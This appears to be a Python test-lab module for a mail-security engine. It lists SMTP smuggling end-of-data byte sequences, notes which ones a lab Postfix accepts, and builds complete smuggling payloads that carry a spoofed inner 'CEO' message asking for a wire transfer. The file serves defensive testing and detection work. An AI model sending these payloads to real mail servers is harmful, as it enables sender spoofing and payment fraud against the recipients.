"""SMTP smuggling: end-of-data sequences that some servers accept and others do not.

A smuggling attempt sends, inside one DATA section, an outer message, a non-standard
end-of-data sequence, and a second, complete SMTP transaction (MAIL, RCPT, DATA, an
inner message, the real CRLF.CRLF). A server that takes the non-standard sequence as the
end of the data stores two messages — the inner one with an envelope nobody inspected.

TABLE lists each sequence (from the table of docs/engine-smtp.md, "End of data"; the
family was published by SEC Consult in 2023). The lab's Postfix 3.7
(smtpd_forbid_bare_newline = no, Debian's default) ends data on the LF-based ones.
"""

# name: (bytes, raises smtp.smuggling) — the rows of docs/engine-smtp.md ("End of data")
# that fit "outer message, sequence, MAIL/RCPT/DATA, inner message, CRLF.CRLF"; the two
# NUL variants are not smuggling for the engine (smtp.nul, bytes kept as content).
TABLE = {
    "lf-dot-lf": (b"\n.\n", True),                 # row 2
    "lf-dot-crlf": (b"\n.\r\n", True),             # row 3
    "lf-dot-cr": (b"\n.\r", True),                  # row 4
    "cr-dot-cr": (b"\r.\r", True),                  # row 5
    "cr-dot-lf": (b"\r.\n", True),                  # row 6
    "cr-dot-crlf": (b"\r.\r\n", True),             # row 7
    "crlf-dot-lf": (b"\r\n.\n", True),             # row 8
    "crlf-dot-cr": (b"\r\n.\r", True),             # row 9
    "crlf-dot-cr-crlf": (b"\r\n.\r\r\n", True),    # row 10
    "lf-lf-dot-lf-lf": (b"\n\n.\n\n", True),        # row 18
    "crlf-lf-dot-crlf": (b"\r\n\n.\r\n", True),    # row 20
    "crlf-nul-dot-crlf": (b"\r\n\x00.\r\n", False),
    "crlf-dot-nul-crlf": (b"\r\n.\x00\r\n", False),
}
VARIANTS = {name: seq for name, (seq, _) in TABLE.items()}
RAISES_SMUGGLING = tuple(name for name, (_, sig) in TABLE.items() if sig)

# The variants the lab's Postfix server really takes as end-of-data (tests/lab/
# test-control.sh checks this list on every run).
POSTFIX_ENDS_DATA = ("lf-dot-lf", "lf-dot-crlf", "crlf-dot-lf", "crlf-dot-cr-crlf",
                     "lf-lf-dot-lf-lf", "crlf-lf-dot-crlf")

INNER_SUBJECT = "Smuggled: wire the money"


def data_bytes(variant, msg_id):
    """The bytes a client sends after DATA's 354 for one smuggling attempt."""
    eod = VARIANTS[variant]
    outer = (f"From: Alice Sender <alice@example.org>\r\n"
             f"To: Bob Receiver <bob@example.net>\r\n"
             f"Subject: Lunch\r\n"
             f"Message-ID: <{msg_id}@lab.example.org>\r\n"
             f"\r\n"
             f"See you at noon.").encode()
    inner_envelope = (b"MAIL FROM:<ceo@example.net>\r\n"
                      b"RCPT TO:<bob@example.net>\r\n"
                      b"DATA\r\n")
    inner = (f"From: CEO <ceo@example.net>\r\n"
             f"To: Bob Receiver <bob@example.net>\r\n"
             f"Subject: {INNER_SUBJECT}\r\n"
             f"Message-ID: <{msg_id}-inner@lab.example.org>\r\n"
             f"\r\n"
             f"Please wire 50,000 to account 12345 today.\r\n").encode()
    return outer + eod + inner_envelope + inner + b".\r\n"
